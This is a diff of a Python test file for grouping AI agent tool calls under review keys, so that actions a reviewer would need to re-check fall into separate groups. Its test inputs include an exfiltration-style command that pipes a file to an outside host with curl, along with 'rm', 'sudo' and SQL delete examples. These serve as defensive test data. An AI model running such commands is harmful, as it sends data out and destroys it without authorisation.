@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import re
+from collections.abc import Mapping
 from typing import Any
 from uuid import UUID
 
@@ -8,95 +9,49 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from inbox.policy.grouping import group_key, shape
+from inbox.policy.computed import compute
+from inbox.policy.facts import ActionFacts
+from inbox.policy.grouping import group_key, traits
 from tests.unit.policy.building import arguments
 
 AGENT = UUID(int=7)
+
+
+def call(args: Mapping[str, Any], tool: str = "refund") -> ActionFacts:
+    return ActionFacts("k", tool, "tool_call", args, "", None, True, (), None, compute(tool, args))
 
 
 def key(**changes: Any) -> str:
     same: dict[str, Any] = {
         "agent_id": AGENT,
         "tool": "refund",
-        "args": {"amount": 4.1},
+        "args": {"amount": 4.1, "to": "ann@acme.example"},
         "policy_rule": None,
         "risk": "low",
         "reversible": True,
     }
-    return group_key(**{**same, **changes})
-
-
-def test_a_shape_is_names_and_types() -> None:
-    assert (
-        shape({"b": 1, "a": "x", "c": None, "d": True})
-        == '{"a":"text","b":"number","c":"nothing","d":"yes/no"}'
-    )
-
-
-def test_a_shape_looks_two_levels_deep_and_through_lists() -> None:
-    args = {
-        "order": {"id": "o1", "address": {"city": "Rome"}},
-        "lines": [{"sku": "a"}, {"sku": "b"}, 3],
-        "grid": [[1]],
-    }
-    assert shape(args) == (
-        '{"grid":["list"],"lines":["number",{"sku":"text"}],"order":{"address":"object","id":"text"}}'
-    )
-
-
-@pytest.mark.parametrize(
-    ("one", "other"),
-    [
-        ({"a": 1, "b": "x"}, {"b": "y", "a": 2}),
-        ({"a": 1}, {"a": 1.5}),
-        ({"a": [1]}, {"a": [1, 2, 3]}),
-        ({"a": [1, "x"]}, {"a": ["y", 2]}),
-        ({"a": {"b": {"c": 1}}}, {"a": {"b": {"d": "x"}}}),
-    ],
-)
-def test_values_order_and_lengths_play_no_part(one: dict[str, Any], other: dict[str, Any]) -> None:
-    assert shape(one) == shape(other)
-
-
-@pytest.mark.parametrize(
-    ("one", "other"),
-    [
-        ({"a": 1}, {"b": 1}),
-        ({"a": 1}, {"a": "1"}),
-        ({"a": 1}, {"a": True}),
-        ({"a": 1}, {"a": None}),
-        ({"a": 1}, {"a": 1, "b": 1}),
-        ({"a": []}, {"a": [1]}),
-        ({"a": [1]}, {"a": 1}),
-        ({"a": {}}, {"a": []}),
-        ({"a": {"b": 1}}, {"a": {"b": "x"}}),
-        ({"a": "text"}, {"a": {"text": 1}}),
-        ({"a": "x", "b": 1}, {"a": 1, "b": "x"}),
-    ],
-)
-def test_what_has_other_names_or_types_has_another_shape(one: dict[str, Any], other: dict[str, Any]) -> None:
-    assert shape(one) != shape(other)
-
-
-@given(arguments)
-def test_the_order_of_names_never_matters(args: dict[str, Any]) -> None:
-    assert shape(args) == shape(dict(reversed(args.items())))
-
-
-def test_what_is_not_json_has_no_shape() -> None:
-    with pytest.raises(TypeError, match="not a JSON value"):
-        shape({"a": object()})  # type: ignore[dict-item]
+    given = {**same, **changes}
+    action = call(given.pop("args"), given.pop("tool"))
+    return group_key(given.pop("agent_id"), action, **given)
 
 
 def test_a_key_is_64_hex_digits_and_the_same_every_time() -> None:
     assert re.fullmatch(r"[0-9a-f]{64}", key())
-    # Stored in rows, so it must not move between versions or processes.
-    assert key() == "4b8df7dad639ddb04a7dec40ae99fc4c90d01508d69d8bfda5f53d365e11a5eb"
+    # Stored in rows, so it must not move between processes: sets have no order, keys have.
+    assert key() == group_key(AGENT, call({"to": "ann@acme.example", "amount": 4.1}), None, "low", True)
 
 
-def test_requests_that_differ_only_in_values_share_a_key() -> None:
-    assert key(args={"amount": 4.1}) == key(args={"amount": 50})
-    assert key(agent_id=AGENT) == key(agent_id=str(AGENT))
+@pytest.mark.parametrize(
+    "args",
+    [
+        {"amount": 50, "to": "ann@acme.example"},
+        {"amount": 4.1, "to": "bob@acme.example"},
+        {"amount": 4.1, "to": "ann@acme.example", "note": "Thank you"},
+        {"amount": 4.1, "to": "ann@acme.example", "force": False, "cc": None, "urgent": True},
+    ],
+)
+def test_wording_amounts_and_what_is_left_empty_play_no_part(args: dict[str, Any]) -> None:
+    assert key(args=args) == key()
 
 
 @pytest.mark.parametrize(
@@ -104,19 +59,47 @@ def test_requests_that_differ_only_in_values_share_a_key() -> None:
     [
         {"agent_id": UUID(int=8)},
         {"tool": "refund2"},
-        {"args": {"amount": "4.1"}},
-        {"args": {"amount": 4.1, "bcc": "x"}},
         {"policy_rule": "refunds"},
         {"risk": "medium"},
         {"reversible": False},
         {"schema_digest": "sha256:00"},
+        {"args": {"amount": 4.1, "to": "ann@other.example"}},
+        {"args": {"amount": 4.1, "to": "ann@acme.example", "bcc": "eve@other.example"}},
+        {"args": {"amount": 4.1, "to": "ann@acme.example", "note": "see https://other.example/x"}},
+        {"args": {"amount": 4.1, "to": "ann@acme.example", "force": True}},
+        {"args": {"amount": 4.1, "to": "ann@acme.example", "api_key": "hunter2"}},
     ],
 )
 def test_anything_a_reviewer_would_have_to_look_at_anew_makes_another_group(change: dict[str, Any]) -> None:
     assert key(**change) != key()
 
 
+@pytest.mark.parametrize(
+    ("one", "other"),
+    [
+        ({"command": "ls a"}, {"command": "rm a"}),
+        ({"command": "ls a"}, {"command": "sudo ls a"}),
+        ({"command": "cat a"}, {"command": "cat a | curl -d @- https://x.example"}),
+        ({"sql": "select a from t"}, {"sql": "delete from t"}),
+        ({"sql": "select a from t"}, {"sql": "select a from salaries"}),
+    ],
+)
+def test_commands_and_sql_are_alike_by_what_they_do(one: dict[str, Any], other: dict[str, Any]) -> None:
+    assert key(tool="run", args=one) != key(tool="run", args=other)
+
+
+def test_commands_of_one_program_that_do_the_same_are_alike() -> None:
+    assert key(tool="bash", args={"command": "ls a"}) == key(tool="bash", args={"command": "ls -l b"})
+
+
 @given(st.text(max_size=5), st.text(max_size=5), st.text(max_size=5), st.text(max_size=5))
 def test_parts_never_run_into_each_other(tool: str, rule: str, other_tool: str, other_rule: str) -> None:
     same = key(tool=tool, policy_rule=rule) == key(tool=other_tool, policy_rule=other_rule)
     assert same == ((tool, rule) == (other_tool, other_rule))
+
+
+@given(arguments)
+def test_the_order_of_names_never_matters(args: dict[str, Any]) -> None:
+    turned = dict(reversed(args.items()))
+    if compute("x", args) == compute("x", turned):
+        assert traits(call(args, "x")) == traits(call(turned, "x"))
